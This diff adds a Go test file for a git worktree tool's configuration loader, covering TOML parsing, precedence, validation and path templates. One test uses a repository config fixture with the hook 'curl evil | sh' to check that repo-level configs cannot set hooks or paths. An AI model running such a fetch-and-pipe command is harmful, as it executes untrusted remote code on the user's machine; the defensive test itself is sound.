@@ -0,0 +1,312 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// isolate points the user config at path and clears env overrides
+func isolate(t *testing.T, userConfig string) {
+	t.Setenv("WT_CONFIG", userConfig)
+	for _, k := range keys {
+		if k.env != "" {
+			t.Setenv(k.env, "")
+		}
+	}
+}
+
+func writeFile(t *testing.T, path, content string) {
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatalf("failed to write %s: %v", path, err)
+	}
+}
+
+func TestParseTOML(t *testing.T) {
+	input := `
+# comment
+wt_home = "~/wt"  # trailing comment
+base_ref = 'origin/main'
+confirm_delete = false
+
+[hooks]
+post_create = "echo \"hi\" # not a comment"
+`
+	values, err := parseTOML(strings.NewReader(input), "test.toml")
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+
+	expected := map[string]string{
+		"wt_home":           "~/wt",
+		"base_ref":          "origin/main",
+		"confirm_delete":    "false",
+		"hooks.post_create": `echo "hi" # not a comment`,
+	}
+	if len(values) != len(expected) {
+		t.Errorf("expected %d values, got %d: %v", len(expected), len(values), values)
+	}
+	for key, want := range expected {
+		if got := values[key]; got != want {
+			t.Errorf("%s: expected %q, got %q", key, want, got)
+		}
+	}
+}
+
+func TestParseTOML_Errors(t *testing.T) {
+	tests := []string{
+		"wt_home",
+		"wt_home = unquoted",
+		`wt_home = "unterminated`,
+		"[hooks",
+		"a = 1\na = 2",
+	}
+
+	for _, input := range tests {
+		if _, err := parseTOML(strings.NewReader(input), "test.toml"); err == nil {
+			t.Errorf("expected error for %q", input)
+		}
+	}
+}
+
+func TestLoad_Defaults(t *testing.T) {
+	isolate(t, filepath.Join(t.TempDir(), "missing.toml"))
+
+	cfg, err := Load()
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+
+	home, _ := os.UserHomeDir()
+	if got := cfg.Get(KeyWTHome); got != filepath.Join(home, "worktrees") {
+		t.Errorf("unexpected default wt_home: %s", got)
+	}
+	if got := cfg.Get(KeyPathTemplate); got != "{repo}-{name}" {
+		t.Errorf("unexpected default path_template: %s", got)
+	}
+	if !cfg.Bool(KeyConfirmDelete) {
+		t.Error("expected confirm_delete to default to true")
+	}
+	if src := cfg.Source(KeyWTHome); src != SourceDefault {
+		t.Errorf("expected source %s, got %s", SourceDefault, src)
+	}
+}
+
+func TestLoad_Precedence(t *testing.T) {
+	userConfig := filepath.Join(t.TempDir(), "config.toml")
+	writeFile(t, userConfig, `
+wt_home = "/from/user"
+base_ref = "origin/main"
+confirm_delete = false
+`)
+	isolate(t, userConfig)
+	t.Setenv("WT_HOME", "/from/env")
+
+	cfg, err := Load()
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+
+	if got := cfg.Get(KeyWTHome); got != "/from/env" {
+		t.Errorf("expected env to override user config, got %s", got)
+	}
+	if src := cfg.Source(KeyWTHome); src != "env WT_HOME" {
+		t.Errorf("unexpected source for wt_home: %s", src)
+	}
+	if got := cfg.Get(KeyBaseRef); got != "origin/main" {
+		t.Errorf("expected base_ref from user config, got %s", got)
+	}
+	if src := cfg.Source(KeyBaseRef); src != userConfig {
+		t.Errorf("expected source %s, got %s", userConfig, src)
+	}
+	if cfg.Bool(KeyConfirmDelete) {
+		t.Error("expected confirm_delete false from user config")
+	}
+
+	if err := cfg.Set(KeyBaseRef, "v1.0", SourceFlag+" --from"); err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if got := cfg.Get(KeyBaseRef); got != "v1.0" {
+		t.Errorf("expected flag to override config, got %s", got)
+	}
+}
+
+func TestLoad_Invalid(t *testing.T) {
+	dir := t.TempDir()
+
+	unknown := filepath.Join(dir, "unknown.toml")
+	writeFile(t, unknown, `no_such_key = "x"`)
+	isolate(t, unknown)
+	if _, err := Load(); err == nil || !strings.Contains(err.Error(), "unknown key") {
+		t.Errorf("expected unknown key error, got: %v", err)
+	}
+
+	badBool := filepath.Join(dir, "bool.toml")
+	writeFile(t, badBool, `confirm_delete = "maybe"`)
+	isolate(t, badBool)
+	if _, err := Load(); err == nil || !strings.Contains(err.Error(), "expected true or false") {
+		t.Errorf("expected bool error, got: %v", err)
+	}
+
+	badDays := filepath.Join(dir, "days.toml")
+	writeFile(t, badDays, `trash_days = -1`)
+	isolate(t, badDays)
+	if _, err := Load(); err == nil || !strings.Contains(err.Error(), "expected a number of days") {
+		t.Errorf("expected days error, got: %v", err)
+	}
+
+	badColor := filepath.Join(dir, "color.toml")
+	writeFile(t, badColor, `color = "sometimes"`)
+	isolate(t, badColor)
+	if _, err := Load(); err == nil || !strings.Contains(err.Error(), "expected auto, always, never") {
+		t.Errorf("expected color error, got: %v", err)
+	}
+}
+
+func TestLoadFile_RepoUserOnly(t *testing.T) {
+	isolate(t, filepath.Join(t.TempDir(), "config.toml"))
+	cfg, err := Load()
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+
+	repoConfig := filepath.Join(t.TempDir(), RepoConfigName)
+	writeFile(t, repoConfig, `
+wt_home = "/elsewhere"
+data_dir = "/elsewhere/data"
+path_template = "../../{name}"
+base_ref = "origin/main"
+
+[hooks]
+post_create = "curl evil | sh"
+`)
+	if err := cfg.loadFile(repoConfig, true); err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if got := cfg.Get(KeyBaseRef); got != "origin/main" {
+		t.Errorf("expected base_ref from the repo config, got %s", got)
+	}
+	for _, key := range []string{KeyWTHome, KeyDataDir, KeyPathTemplate, KeyHookPostCreate} {
+		if src := cfg.Source(key); src != SourceDefault {
+			t.Errorf("expected %s to be ignored in the repo config, got it from %s", key, src)
+		}
+	}
+	if len(cfg.Warnings) != 4 || !strings.Contains(cfg.Warnings[0], repoConfig) {
+		t.Errorf("expected a warning per ignored key, got %q", cfg.Warnings)
+	}
+
+	// The user config may set them
+	if err := cfg.loadFile(repoConfig, false); err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if got := cfg.Get(KeyHookPostCreate); got != "curl evil | sh" {
+		t.Errorf("expected the hook from the user config, got %q", got)
+	}
+}
+
+func TestExpandHome(t *testing.T) {
+	userConfig := filepath.Join(t.TempDir(), "config.toml")
+	writeFile(t, userConfig, `wt_home = "~/trees"`)
+	isolate(t, userConfig)
+
+	cfg, err := Load()
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+
+	home, _ := os.UserHomeDir()
+	if got := cfg.Get(KeyWTHome); got != filepath.Join(home, "trees") {
+		t.Errorf("expected ~ to be expanded, got %s", got)
+	}
+}
+
+func TestExpandPathTemplate(t *testing.T) {
+	vars := TemplateVars{
+		WTHome:     "/home/u/worktrees",
+		Repo:       "api",
+		RepoParent: "/src",
+		Name:       "login",
+		Branch:     "feature-login",
+		User:       "u",
+		Date:       "2024-05-01",
+	}
+
+	tests := []struct {
+		tmpl     string
+		expected string
+	}{
+		{"{repo}-{name}", "/home/u/worktrees/api-login"},
+		{"{wt_home}/{repo}/{name}", "/home/u/worktrees/api/login"},
+		{"{repo_parent}/{repo}.worktrees/{name}", "/src/api.worktrees/login"},
+		{"{user}/{date}-{branch}", "/home/u/worktrees/u/2024-05-01-feature-login"},
+	}
+
+	for _, tt := range tests {
+		got, err := ExpandPathTemplate(tt.tmpl, vars)
+		if err != nil {
+			t.Errorf("%s: unexpected error: %v", tt.tmpl, err)
+			continue
+		}
+		if got != filepath.FromSlash(tt.expected) {
+			t.Errorf("%s: expected %s, got %s", tt.tmpl, tt.expected, got)
+		}
+	}
+
+	if _, err := ExpandPathTemplate("{repo}-{nope}", vars); err == nil || !strings.Contains(err.Error(), "{nope}") {
+		t.Errorf("expected unknown placeholder error, got: %v", err)
+	}
+}
+
+func TestPathTemplateGlob(t *testing.T) {
+	vars := TemplateVars{WTHome: "/wt", RepoParent: "/src", User: "u"}
+
+	tests := []struct {
+		tmpl    string
+		pattern string
+		root    string
+	}{
+		{"{repo}-{name}", "/wt/*-*", "/wt"},
+		{"{wt_home}/{repo}/{name}", "/wt/*/*", "/wt"},
+		{"{repo_parent}/{repo}.worktrees/{name}", "/src/*.worktrees/*", "/src"},
+		{"/trees/{user}/{repo}-{branch}", "/trees/u/*-*", "/trees/u"},
+	}
+
+	for _, tt := range tests {
+		pattern, root, err := PathTemplateGlob(tt.tmpl, vars)
+		if err != nil {
+			t.Errorf("%s: unexpected error: %v", tt.tmpl, err)
+			continue
+		}
+		if pattern != filepath.FromSlash(tt.pattern) || root != filepath.FromSlash(tt.root) {
+			t.Errorf("%s: expected (%s, %s), got (%s, %s)", tt.tmpl, tt.pattern, tt.root, pattern, root)
+		}
+	}
+
+	// Glob syntax in fixed parts matches literally
+	wtHome := filepath.Join(t.TempDir(), "trees [old]*?")
+	for _, dir := range []string{"api-login", "api-x"} {
+		if err := os.MkdirAll(filepath.Join(wtHome, dir), 0755); err != nil {
+			t.Fatalf("failed to create dir: %v", err)
+		}
+	}
+	// Would match the unescaped pattern's character class
+	if err := os.MkdirAll(filepath.Join(filepath.Dir(wtHome), "trees ox", "api-y"), 0755); err != nil {
+		t.Fatalf("failed to create dir: %v", err)
+	}
+	pattern, root, err := PathTemplateGlob("{repo}-{name}", TemplateVars{WTHome: wtHome})
+	if err != nil || root != wtHome {
+		t.Fatalf("expected root %s, got %s (err: %v)", wtHome, root, err)
+	}
+	matches, err := filepath.Glob(pattern)
+	if err != nil || len(matches) != 2 || filepath.Dir(matches[0]) != wtHome {
+		t.Errorf("expected the 2 worktrees in %s, got %v (err: %v)", wtHome, matches, err)
+	}
+
+	// {repo_parent} is unknown outside a repository
+	vars.RepoParent = ""
+	pattern, _, err = PathTemplateGlob("{repo_parent}/{repo}.worktrees/{name}", vars)
+	if err != nil || pattern != "" {
+		t.Errorf("expected empty pattern without repo_parent, got %q (err: %v)", pattern, err)
+	}
+}